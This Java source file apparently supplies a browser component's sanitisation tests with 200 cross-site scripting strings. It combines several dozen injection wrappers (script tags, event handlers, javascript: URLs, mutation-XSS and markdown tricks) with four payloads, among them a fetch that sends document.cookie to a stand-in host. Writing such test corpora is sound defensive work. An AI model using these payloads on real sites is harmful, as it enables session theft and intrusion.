package dev.berth.browser;

import java.util.List;
import java.util.stream.IntStream;

/** Two hundred texts that would run where a page takes them for anything but text: each way to begin with each thing to do. */
final class HostileTexts {

    static final int COUNT = 200;

    private static final List<String> ACTS = List.of(
            "canary=1",
            "alert(1)",
            "import('//elsewhere.example/x.js')",
            "fetch('//elsewhere.example/'+document.cookie)");

    /** Where the act stands there is an @. */
    private static final List<String> WAYS = List.of(
            "<script>@</script>",
            "<ScRiPt>@</sCrIpT>",
            "<script/x>@</script/x>",
            "<scr<script>ipt>@</scr</script>ipt>",
            "\"><script>@</script>",
            "'><script>@</script>",
            "</script><script>@</script>",
            "--><script>@</script>",
            "]]><script>@</script>",
            "</textarea><script>@</script>",
            "</title><script>@</script>",
            "</style><script>@</script>",
            "<script type=module>@</script>",
            "<img src=x onerror=@>",
            "<img src=x onerror=\"@\">",
            "\"><img src=x onerror=\"@\">",
            "<img/src/onerror=@>",
            "<img src=\"//elsewhere.example/x.png\" onload=@>",
            "<svg onload=@>",
            "<svg/onload=@//",
            "<svg><script>@</script></svg>",
            "<svg><animate onbegin=@ attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg onload=@>\"/></svg>",
            "<body onload=@>",
            "<details open ontoggle=@>x</details>",
            "<video><source onerror=\"@\"></video>",
            "<audio src=x onerror=@>",
            "<input autofocus onfocus=@>",
            "<select autofocus onfocus=@>",
            "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=@>",
            "<a href=\"javascript:@\">x</a>",
            "<a href=\"jav&#x09;ascript:@\">x</a>",
            "<a href=\"\u0001javascript:@\">x</a>",
            "[x](javascript:@)",
            "![x](javascript:@)",
            "[x](data:text/html,<script>@</script>)",
            "<javascript:@>",
            "[a]: javascript:@ \"x\"\n[a]",
            "```html\n<script>@</script>\n```",
            "<iframe src=\"javascript:@\"></iframe>",
            "<iframe srcdoc=\"<script>@</script>\"></iframe>",
            "<object data=\"javascript:@\"></object>",
            "<embed src=\"javascript:@\">",
            "<form action=\"javascript:@\"><button>x</button></form>",
            "<math><mi xlink:href=\"javascript:@\">x</mi></math>",
            "<style>@import 'javascript:@';</style>",
            "<div style=\"background:url(javascript:@);position:fixed;inset:0\">x</div>",
            "<link rel=stylesheet href=\"javascript:@\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
            "<base href=\"//elsewhere.example/\">@",
            "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=@>\">",
            "{{constructor.constructor('@')()}}",
            "${@}",
            "<template><script>@</script></template>",
            "javascript:@",
            "\" onfocus=\"@\" autofocus=\"",
            "' onmouseover='@' x='",
            "` onerror=@ `",
            "&lt;script&gt;@&lt;/script&gt;",
            "%3Cscript%3E@%3C/script%3E",
            "\\u003cscript\\u003e@\\u003c/script\\u003e",
            "javascript&colon;@",
            "\u202e<script>@</script>",
            "<!-- @",
            "<plaintext>@",
            "<xmp><p title=\"</xmp><img src=x onerror=@>\">");

    private HostileTexts() {}

    static List<String> all() {
        return IntStream.range(0, COUNT)
                .mapToObj(i -> WAYS.get(i % WAYS.size()).replace("@", ACTS.get(i / WAYS.size() % ACTS.size())))
                .toList();
    }

    /** So many of them in one text, one a paragraph. */
    static List<String> inTexts(int each) {
        List<String> all = all();
        return IntStream.iterate(0, from -> from < COUNT, from -> from + each)
                .mapToObj(from -> String.join("\n\n", all.subList(from, Math.min(from + each, COUNT))))
                .toList();
    }
}
